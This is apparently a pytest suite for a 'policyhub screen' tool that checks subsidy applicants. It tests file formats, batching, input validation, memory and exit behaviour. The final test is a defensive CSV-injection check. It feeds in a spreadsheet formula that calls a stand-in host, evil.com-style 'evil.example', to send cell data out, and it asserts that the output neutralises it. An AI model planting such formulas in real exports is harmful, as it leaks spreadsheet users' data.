"""`policyhub screen`: CSV and Parquet inputs, the three output formats, the summary table,
and bad input refused whole (exit 2, every problem named, nothing written)."""

from __future__ import annotations

import datetime as dt
import gc
import json
import os
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest

from policyhub.cli import main as policyhub
from policyhub.screen import (
    KEEP_FREED,
    POLARS_DEFAULT,
    Options,
    allocator_conf,
    io,
    screen_frame,
    synth,
)
from policyhub.screen.cli import main
from tests.screen.oracle import engine

AS_OF = "2021-06-30"
N = 400


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    where = tmp_path_factory.mktemp("inputs")
    parquet, csv = where / "registry.parquet", where / "registry.csv"
    synth.write(parquet, N, seed=5)
    synth.frame(N, seed=5).write_csv(csv)
    return {"parquet": parquet, "csv": csv}


def _run(source: Path, target: Path, *extra: str) -> int:
    return main([str(source), "-o", str(target), "--as-of", AS_OF, "--no-progress", *extra])


@pytest.mark.parametrize("suffix", [".parquet", ".csv", ".jsonl"])
def test_screen_csv_and_parquet_inputs_give_identical_output(
        inputs: dict[str, Path], tmp_path: Path, suffix: str) -> None:
    a, b = tmp_path / f"a{suffix}", tmp_path / f"b{suffix}"
    assert _run(inputs["parquet"], a) == 0
    assert _run(inputs["csv"], b) == 0
    assert a.read_bytes() == b.read_bytes()


def test_screen_parquet_output_is_the_kernel_table(inputs: dict[str, Path],
                                                   tmp_path: Path) -> None:
    out = tmp_path / "out.parquet"
    assert _run(inputs["parquet"], out, "--dedup-scope", "applicant") == 0
    written = pl.read_parquet(out)
    frame = synth.frame(N, seed=5)
    want = screen_frame(frame, Options(dt.date.fromisoformat(AS_OF), "applicant")).frame()
    assert written.equals(want.with_columns(pl.col(pl.Categorical).cast(pl.String)))
    assert written.schema["amount"] == pl.Decimal(18, 2)
    assert written.filter(pl.col("entry") == "total").height == N


def test_screen_jsonl_is_one_decision_per_applicant(inputs: dict[str, Path],
                                                   tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    assert _run(inputs["parquet"], out, "--milestone-jump", "cumulative") == 0
    lines = [json.loads(x) for x in out.read_text(encoding="utf-8").splitlines()]
    assert len(lines) == N
    options = Options(dt.date.fromisoformat(AS_OF), "matter", "cumulative")
    want = engine(synth.frame(N, seed=5), options)
    for d in lines:
        assert list(d) == ["contract", "as_of", "applicant", "options", "awards",
                           "discretionary", "ineligible", "total"]
        assert d["options"] == {"dedup_scope": "matter", "milestone_jump": "cumulative"}
        w = want[d["applicant"]["id"]]
        assert d["total"] == w["total"]
        assert [(a["rule"], a["matter"], a["amount"], a["status"], a.get("excluded_by"))
                for a in d["awards"]] == [a[:5] for a in w["awards"]]
        assert [(x["event_index"], x["rule"], x["reason_code"])
                for x in d["ineligible"]] == w["ineligible"]
    ids = synth.frame(N, seed=5)["applicant_id"].unique(maintain_order=True).to_list()
    assert [d["applicant"]["id"] for d in lines] == ids  # in input order


def test_screen_jsonl_does_not_depend_on_batches(inputs: dict[str, Path], tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The table lists a batch kind by kind; JSONL gathers each applicant's entries."""
    whole, small = tmp_path / "whole.jsonl", tmp_path / "small.jsonl"
    assert _run(inputs["parquet"], whole) == 0
    monkeypatch.setattr(io, "BATCH_APPLICANTS", 24)
    assert _run(inputs["parquet"], small) == 0
    assert small.read_bytes() == whole.read_bytes()


def test_screen_prints_the_summary_table(inputs: dict[str, Path], tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    assert policyhub(["screen", str(inputs["csv"]), "--as-of", AS_OF]) == 0
    out = capsys.readouterr().out
    assert f"applicants: {N}" in out
    assert "with granted awards:" in out
    for heading in ("rule", "clause", "granted", "amount (yuan)", "excluded", "total",
                    "P4.milestone", "二(四)", "ineligible entries:", "wall time:"):
        assert heading in out


BAD_CSV = """applicant_id,kind,credit_code,registered_in_changsha,taxed_in_changsha,\
cybersecurity_business,type,event_index,year,amount,date,level,stage,matter
A1,enterprise,91430100AY4CL12T2M,true,true,true,annual_revenue,0,2019,100.005,,,,
A1,enterprise,91430100AY4CL12T2M,true,true,true,annual_revenue,1,2019,5,,,,
A1,enterprise,91430100AY4CL12T2M,true,false,true,standard_led,2,,,2020-02-30,national,,
A2,enterprise,91430100AY4CL12T2X,true,true,true,lottery_win,0,,,2020-01-01,,,
A3,person,,true,true,true,ipo_stage,0,,,2020-01-01,,bankrupt,
A3,person,,true,true,true,talent_recognition,1,,,2020-01-01,,,
A4,firm,91430100AY4CL12T2M,yes,true,true,annual_revenue,0,2020,99999999999999,,,,
A4,firm,91430100AY4CL12T2M,yes,true,true,annual_revenue,2,2021,-5,,,,
"""


def test_screen_refuses_bad_input_whole(tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    source, target = tmp_path / "bad.csv", tmp_path / "out.parquet"
    source.write_text(BAD_CSV, encoding="utf-8")
    assert _run(source, target) == 2
    assert not target.exists()
    assert list(tmp_path.iterdir()) == [source]  # no temporary file left behind
    err = capsys.readouterr().err
    expected = [
        "row 1, amount: '100.005' has more than two decimals",
        "row 2, year: duplicate annual_revenue for 2019 (also row 1)",
        "row 3, taxed_in_changsha: differs from the applicant's first row (row 1)",
        "row 3, date: '2020-02-30' is not a date YYYY-MM-DD",
        "row 4, credit_code: '91430100AY4CL12T2X' check digit is 'X'",
        "row 4, type: 'lottery_win' is not one of annual_revenue",
        "row 5, stage: 'bankrupt' is not one of tutoring_filed | application_accepted",
        "row 6, level: is required for type talent_recognition",
        "row 6, housing_price_per_m2: is required for type talent_recognition",
        "row 7, kind: 'firm' is not one of enterprise",
        "row 7, registered_in_changsha: 'yes' must be true or false",
        "row 7, amount: '99999999999999' is too large",
        "row 8, event_index: 2 leaves a gap",
        "row 8, amount: '-5' is not a plain decimal amount",
    ]
    for line in expected:
        assert line in err, f"{line!r} not in:\n{err}"
    assert err.splitlines()[0].endswith("nothing was written.")


def test_screen_shows_twenty_problems_and_counts_the_rest(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = ["applicant_id,kind,registered_in_changsha,taxed_in_changsha,"
            "cybersecurity_business,type,event_index,date"]
    rows += [f"P{i},person,true,true,true,urgent_talent,0,2020-01-01" for i in range(30)]
    source, target = tmp_path / "bad.csv", tmp_path / "out.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    assert _run(source, target) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith(f"{source}: 30 problem(s)")
    assert len(err) == 1 + 20 + 1
    assert err[-1] == "… and 10 more problem(s)"
    assert not target.exists()


@pytest.mark.parametrize("batch", [None, 2], ids=["one batch", "across batches"])
def test_screen_refuses_an_applicant_split_across_the_file(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        batch: int | None) -> None:
    if batch:  # batches of 1, 1, 2 applicants: the split applicant is in the 1st and 3rd
        monkeypatch.setattr(io, "BATCH_APPLICANTS", batch)
    frame = synth.frame(3, seed=1)
    first = frame.filter(pl.col("applicant_id") == frame["applicant_id"][0])
    split = pl.concat([first.head(1), frame.filter(pl.col("applicant_id") != first[
        "applicant_id"][0]), first.tail(first.height - 1)])
    source, target = tmp_path / "split.parquet", tmp_path / "out.parquet"
    split.write_parquet(source)
    assert _run(source, target) == 2
    err = capsys.readouterr().err
    assert f"{first['applicant_id'][0]!r}: rows of one applicant must be contiguous" in err
    assert not target.exists()


@pytest.mark.parametrize(("args", "message"), [
    (["missing.parquet"], "no such file"),
    (["{csv}", "-o", "out.xlsx"], "unknown output format"),
    (["{csv}", "--as-of", "31/12/2021"], "--as-of: must be an ISO date"),
])
def test_screen_refuses_bad_invocations(inputs: dict[str, Path], tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str], args: list[str],
                                        message: str) -> None:
    argv = [a.format(csv=inputs["csv"]) if "{" in a else
            str(tmp_path / a) if a.endswith((".xlsx", "missing.parquet")) else a
            for a in args]
    assert main(argv) == 2
    assert message in capsys.readouterr().err


def test_screen_applicants_across_row_groups_and_csv_blocks(
        inputs: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Blocks cut through applicants: their rows are joined before deciding."""
    import pyarrow.parquet as pq

    from policyhub.screen import io

    whole = tmp_path / "whole.parquet"
    assert _run(inputs["parquet"], whole) == 0
    small = tmp_path / "small-groups.parquet"
    pq.write_table(pq.read_table(inputs["parquet"]), small, row_group_size=5)
    cut = tmp_path / "cut.parquet"
    assert _run(small, cut) == 0
    assert pl.read_parquet(cut).equals(pl.read_parquet(whole))
    monkeypatch.setattr(io, "CSV_BLOCK", 1 << 12)
    from_csv = tmp_path / "from-csv.parquet"
    assert _run(inputs["csv"], from_csv) == 0
    assert pl.read_parquet(from_csv).equals(pl.read_parquet(whole))


def test_screen_output_lists_each_batch_kind_by_kind_in_applicant_order(
        inputs: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(io, "BATCH_APPLICANTS", 160)  # batches of 40, 120, 160, 80
    out = tmp_path / "out.csv"
    assert _run(inputs["parquet"], out) == 0
    table = pl.read_csv(out, infer_schema=False)
    ids = synth.frame(N, seed=5)["applicant_id"].unique(maintain_order=True).to_list()
    position = {applicant: i for i, applicant in enumerate(ids)}
    rank = {"award": 0, "discretionary": 1, "ineligible": 2, "total": 3}
    totals = table.with_row_index().filter(pl.col("entry") == "total")
    assert totals["applicant_id"].to_list() == ids  # one total per applicant, in input order
    first = 0
    for size in (40, 120, 160, 80):
        end = totals["index"][first + size - 1]
        batch = table.slice(0, end + 1).filter(pl.col("entry") != "total").join(
            pl.DataFrame({"applicant_id": ids[first: first + size]}), on="applicant_id",
            how="semi", maintain_order="left")
        start = totals["index"][first - 1] + 1 if first else 0
        rows = table.slice(start, end + 1 - start)
        assert rows.height == batch.height + size  # the batch's rows are together
        keys = [(rank[e], position[a]) for e, a in zip(rows["entry"], rows["applicant_id"],
                                                         strict=True)]
        assert keys == sorted(keys)  # kind by kind, each in applicant order
        assert {k for _, k in keys} == set(range(first, first + size))
        first += size
    assert first == N


def test_screen_leaves_the_garbage_collector_on_after_a_run_and_a_refusal(
        inputs: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # The CLI turns the cyclic collector off while it loads and screens; a caller in the
    # same process (these tests, a notebook) gets it back on, whatever the outcome.
    assert gc.isenabled()
    assert policyhub(["screen", str(inputs["parquet"]), "-o", str(tmp_path / "o.parquet"),
                      "--as-of", AS_OF, "--no-progress"]) == 0
    assert gc.isenabled()
    bad = tmp_path / "bad.csv"
    bad.write_text("applicant_id,kind\nA1,robot\n", encoding="utf-8")
    assert policyhub(["screen", str(bad), "--as-of", AS_OF]) == 2
    assert "nothing was written" in capsys.readouterr().err
    assert gc.isenabled()
    assert _run(inputs["parquet"], tmp_path / "p.parquet") == 0  # screen's own main
    assert gc.isenabled()


@pytest.mark.parametrize(("inherited", "expected"), [
    (None, KEEP_FREED),
    ("", KEEP_FREED),
    (POLARS_DEFAULT, KEEP_FREED),  # handed on by a parent that imported Polars
    (f"{POLARS_DEFAULT},{KEEP_FREED}", KEEP_FREED),  # … after it ran `policyhub screen`
    ("narenas:1", f"{KEEP_FREED},narenas:1"),  # chosen: kept, after ours, so it wins
    (f"{POLARS_DEFAULT},dirty_decay_ms:0", f"{KEEP_FREED},dirty_decay_ms:0"),
])
def test_screen_keeps_freed_memory_unless_the_allocator_was_configured(
        inherited: str | None, expected: str) -> None:
    assert allocator_conf(inherited) == expected
    assert allocator_conf(expected) == expected  # the same from process to process


def test_screen_sets_polars_allocator_even_under_a_parent_that_imported_polars() -> None:
    """The benchmark imports Polars, which writes its defaults into the environment that
    `policyhub screen` inherits: the run must still get its own options, last (they win)."""
    script = ("import os, policyhub.screen.cli, polars; "
              "print(os.environ['_RJEM_MALLOC_CONF'])")  # as Polars leaves it once loaded
    env = {**os.environ, "_RJEM_MALLOC_CONF": POLARS_DEFAULT}
    done = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True,
                          text=True, check=True)
    assert done.stdout.strip().endswith(KEEP_FREED)


def _console(*args: str) -> subprocess.CompletedProcess[str]:
    """The `policyhub` console script's entry point (policyhub.cli:run) in a new process,
    its standard output a pipe (block-buffered, as when redirected to a file: not with
    PYTHONUNBUFFERED, which some shells and CI runners set)."""
    env = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}
    return subprocess.run([sys.executable, "-c", "from policyhub.cli import run; run()", *args],
                          capture_output=True, text=True, timeout=120, env=env)


def test_the_console_script_leaves_after_screen_with_all_its_output(
        inputs: dict[str, Path], tmp_path: Path) -> None:
    """`run` skips the interpreter's teardown after `policyhub screen`: nothing buffered is
    lost, the status is main's, and the decisions are in place."""
    target = tmp_path / "out.parquet"
    done = _console("screen", str(inputs["parquet"]), "-o", str(target), "--as-of", AS_OF)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("policyhub screen — as_of 2021-06-30")
    assert done.stdout.rstrip().endswith(f"written to {target}")
    assert pl.read_parquet(target).height > N
    bad = tmp_path / "bad.csv"
    bad.write_text("applicant_id,kind\nA1,robot\n", encoding="utf-8")
    refused = _console("screen", str(bad), "-o", str(tmp_path / "no.parquet"))
    assert refused.returncode == 2
    assert "nothing was written" in refused.stderr
    assert not (tmp_path / "no.parquet").exists()


def test_the_console_script_exits_as_usual_for_other_commands() -> None:
    done = _console("params", "--help")
    assert done.returncode == 0 and "usage: policyhub params" in done.stdout


def test_screen_csv_output_quotes_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """OWASP CSV injection: an applicant id and a matter typed as formulas come out as text."""
    import csv

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    frame = synth.frame(3, seed=5)
    first = frame["applicant_id"][0]
    frame = frame.with_columns(
        applicant_id=pl.when(pl.col("applicant_id") == first).then(pl.lit(evil))
        .otherwise(pl.col("applicant_id")),
        matter=pl.when(pl.col("matter").is_not_null()).then(pl.lit("-1+1")).otherwise(None))
    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
    frame.write_csv(source)
    assert _run(source, target) == 0
    with target.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    ids = {r["applicant_id"] for r in rows}
    assert "'" + evil in ids and evil not in ids
    matters = {r["matter"] for r in rows}
    assert "-1+1" not in matters and ("'-1+1" in matters or not frame["matter"].drop_nulls().len())
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values()
               if v and not v.lstrip("-").replace(".", "").isdigit())
